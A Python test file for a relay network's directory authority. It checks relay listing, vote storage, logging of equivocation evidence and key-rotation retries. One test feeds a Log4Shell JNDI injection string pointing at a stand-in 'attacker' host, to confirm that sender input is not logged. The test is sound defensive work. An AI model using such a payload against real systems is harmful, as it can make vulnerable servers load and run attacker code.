"""A running authority: what it dials, stores and logs."""

from __future__ import annotations

import os
from dataclasses import replace
from pathlib import Path

import pytest
import trio
from structlog.testing import capture_logs
from trio.testing import MockClock

from onionpath.crypto.identity import IdentityKey, RelayId
from onionpath.directory.address import Address
from onionpath.directory.descriptor import Descriptor, descriptor_digest, sign_descriptor
from onionpath.directory.document import Listing
from onionpath.directory.evidence import Evidence
from onionpath.directory.trust import Authority as Signer
from onionpath.directory.trust import TrustRoot
from onionpath.directory.vote import VOTE_TYPE, Vote, sign_vote
from onionpath.errors import MalformedError, OnionPathError, RefusedError
from onionpath.link.tls import client_context
from onionpath.service.directory import DirectoryService
from relay.authority import running
from relay.authority.actions import Actions
from relay.authority.agreement import Agreement
from relay.authority.authority_files import AuthorityFiles
from relay.authority.bulletin import decode_bulletin
from relay.authority.collecting import Collector, reason_of
from relay.authority.enrolment import Enrolment
from relay.authority.office import Office
from relay.authority.probing import Prober
from relay.authority.publishing import Publishing
from relay.authority.roll import Known
from relay.authority.running import RunningAuthority
from relay.key_keeper import ROTATION_RETRY_S, KeyKeeper
from relay.keys import KeySchedule, PacketKeyFiles
from tests.directory.networks import descriptor, network
from tests.relay.nodes import NETWORK_ID, PARAMETERS, Node, clock, until

IDENTITY = IdentityKey(bytes(range(1, 33)))
ROOT = TrustRoot(
    NETWORK_ID,
    "test",
    (Signer(IDENTITY.public, Address("127.9.0.1", 9), bytes(32)),),
    1,
    # With openings of recovery each second.
    replace(PARAMETERS, period_s=60),
)


class Published:
    """A running authority, and the directory that it hands out."""

    def __init__(self, folder: Path, *, relays: int) -> None:
        folder.mkdir(mode=0o700)
        self.folder = folder
        agreement = Agreement(identity=IDENTITY, root=ROOT, entropy=os.urandom)
        self.enrolment = Enrolment(ROOT, private_addresses=True)
        self.directory = DirectoryService()
        self.publishing = Publishing()
        self._prober = Prober(self.enrolment, PARAMETERS.geometry, context=client_context(), clock=clock)
        self.collector = Collector(self.enrolment, self._prober, clock)
        self.running = RunningAuthority(
            Office(agreement, self.enrolment, first_document_relays=relays),
            self.publishing,
            self.directory,
            files=AuthorityFiles(folder),
            clock=clock,
        )

    @property
    def listed(self) -> list[RelayId]:
        """The relays of what is handed out."""
        return list(self.publishing.directory.relays) if self.publishing.directory else []

    async def run(self) -> None:
        async with trio.open_nursery() as nursery:
            nursery.start_soon(self._prober.run)
            nursery.start_soon(self.running.run)

    def collect(self, node: Node, descriptor: Descriptor | None = None) -> None:
        self.collector.collect(sign_descriptor(descriptor or node.describe(), node.identity), 1)


async def test_a_relay_that_answers_is_listed_and_one_that_does_not_is_forgotten(tmp_path: Path) -> None:
    """Relays that don't exist would otherwise be on everybody's paths."""
    here, gone = Node(tmp_path / "here"), Node(tmp_path / "gone")
    gone.close()
    published = Published(tmp_path / "authority", relays=1)
    async with trio.open_nursery() as nursery:
        await nursery.start(here.serve)
        nursery.start_soon(published.run)
        published.collect(gone)
        published.collect(here)
        await until(lambda: published.directory.publication)
        await until(lambda: len(published.enrolment) == 1)
        nursery.cancel_scope.cancel()

    assert [here.relay_id] == published.listed


async def test_a_relay_whose_address_is_somebody_elses_is_not_listed(tmp_path: Path) -> None:
    honest, liar = Node(tmp_path / "honest"), Node(tmp_path / "liar")
    liar.close()
    liar.port = honest.port
    published = Published(tmp_path / "authority", relays=1)
    async with trio.open_nursery() as nursery:
        await nursery.start(honest.serve)
        nursery.start_soon(published.run)
        published.collect(liar)
        await until(lambda: len(published.enrolment) == 0)
        # And its place is free for whoever really is there.
        published.collect(honest)
        await until(lambda: published.directory.publication)
        nursery.cancel_scope.cancel()

    assert [honest.relay_id] == published.listed


async def test_no_vote_is_shown_and_no_document_published_before_it_is_stored(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Otherwise a restart after a full disk votes or signs a second time."""
    node = Node(tmp_path / "node")
    monkeypatch.setattr(running, "STORE_RETRY_S", 0.01)
    published = Published(tmp_path / "authority", relays=1)
    # In the way of the new diary, as a full disk is, and also for a test that runs as root.
    obstacle = published.folder / ".diary.new"
    obstacle.mkdir()
    with capture_logs() as logs:
        async with trio.open_nursery() as nursery:
            await nursery.start(node.serve)
            nursery.start_soon(published.run)
            published.collect(node)
            await until(lambda: 2 < len([line for line in logs if line["event"] == "state_not_stored"]))
            assert () == decode_bulletin(published.running.office.agreement.bulletin()).votes
            obstacle.rmdir()
            await until(lambda: published.directory.publication)
            nursery.cancel_scope.cancel()

    assert {"document_agreed", "document_published"} <= {line["event"] for line in logs}


def vote(ballot: bytes) -> bytes:
    said = Vote(ROOT.network_id, ROOT.version, 7, 0, IDENTITY.public, 0, bytes(32), ballot, bytes(32))
    return sign_vote(said, IDENTITY).encode()


async def test_evidence_is_kept_in_files_and_logged(tmp_path: Path) -> None:
    published = Published(tmp_path / "authority", relays=1)
    pair = Evidence(VOTE_TYPE, vote(bytes(32)), vote(bytes(31) + b"1"))
    with capture_logs() as logs:
        async with trio.open_nursery() as nursery:
            nursery.start_soon(published.run)
            for _ in range(2):
                published.running.carry_out(Actions(evidence=(pair,)))
            await until(lambda: AuthorityFiles(published.folder).evidence())
            nursery.cancel_scope.cancel()

    (told,) = [line for line in logs if line["event"] == "authority_equivocated"][:1]
    assert (7, [IDENTITY.public.hex()[:16]]) == (told["number"], told["guilty"])
    assert 1 == len(AuthorityFiles(published.folder).evidence())


async def test_a_document_that_cannot_be_joined_loses_neither_evidence_nor_itself(tmp_path: Path) -> None:
    """It is fetched from other authorities instead, as one whose descriptors are missing is."""
    published = Published(tmp_path / "authority", relays=1)
    broken = Known(b"no descriptor", descriptor(1))
    published.running.office.agreement.learn([broken])
    listing = Listing(broken.descriptor.relay_id, descriptor_digest(broken.envelope), 1000)
    document = replace(network().document, relays=(listing,))
    pair = Evidence(VOTE_TYPE, vote(bytes(32)), vote(bytes(31) + b"1"))

    published.running.carry_out(Actions(document=document, evidence=(pair,)))
    async with trio.open_nursery() as nursery:
        nursery.start_soon(published.running.run)
        await until(lambda: AuthorityFiles(published.folder).evidence())
        nursery.cancel_scope.cancel()

    assert document == published.publishing.lacking


def test_what_a_sender_wrote_is_not_logged(tmp_path: Path) -> None:
    published, secret = Published(tmp_path / "authority", relays=1), "log4j ${jndi:ldap://attacker}"
    with capture_logs() as logs, pytest.raises(OnionPathError):
        published.collector.collect(secret.encode(), 1)

    assert [{"event": "descriptor_refused", "reason": "malformed", "log_level": "warning"}] == logs
    assert "other" == reason_of(RefusedError(secret, reason=secret))
    assert "malformed" == reason_of(MalformedError(secret))


def test_a_rotation_that_the_disk_refused_is_tried_again_soon(tmp_path: Path) -> None:
    """It waited for a slot, five minutes, and longer wherever slots are longer."""
    node, now = Node(tmp_path / "node"), clock()
    files = PacketKeyFiles(
        node.folder / "state", KeySchedule(PARAMETERS.epoch_s, PARAMETERS.slot_s), entropy=os.urandom
    )
    keeper = KeyKeeper(
        node.switch,
        files,
        node.replay,
        relay_id=node.relay_id,
        changed=lambda: None,
        clock=lambda: now,
    )
    # In the way of the new key, as a full disk is, and also for a test that runs as root.
    epoch = files.keys.schedule.epoch(now)
    obstacle = node.folder / "state" / "packet-keys" / f".{epoch}.key.new"
    obstacle.mkdir()

    async def keep(seconds: float) -> None:
        with trio.move_on_after(seconds):
            await keeper.run()

    with capture_logs() as logs:
        trio.run(keep, 2.5 * ROTATION_RETRY_S, clock=MockClock(autojump_threshold=0))
    assert 3 == len([line for line in logs if line["event"] == "packet_keys_not_rotated"])
    assert {} == files.keys.by_epoch

    obstacle.rmdir()
    trio.run(keep, 1.0, clock=MockClock(autojump_threshold=0))
    node.close()

    assert {epoch, epoch + 1} == set(files.keys.by_epoch)
